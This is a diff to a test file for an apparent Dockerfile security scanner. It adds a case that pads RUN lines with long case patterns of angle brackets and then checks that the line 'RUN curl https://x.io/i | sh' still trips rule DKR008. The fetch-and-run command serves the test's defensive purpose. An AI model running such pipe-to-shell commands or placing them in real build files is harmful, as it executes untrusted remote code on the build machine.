@@ -126,6 +126,16 @@ SHELL_CASES = {
         + " ) | sh\nRUN curl https://x.io/i | sh\n",
         "DKR008",
     ),
+    # A case pattern's `<` and `>` are read past, however many, in a RUN and in a substitution.
+    "dockerfile-case-patterns-of-angle-brackets": (
+        "Dockerfile",
+        "FROM python:3.12-slim\nUSER app\nRUN case $a in "
+        + "<>|" * (_LONG // 6)
+        + ") echo;; esac\nRUN X=$(case $a in "
+        + "a<b>|" * (_LONG // 10)
+        + ") echo;; esac)\nRUN curl https://x.io/i | sh\n",
+        "DKR008",
+    ),
     # Each PowerShell downloader is followed only up to a bound for `).Content | iex`.
     "dockerfile-powershell-downloads-evaluated": (
         "Dockerfile",
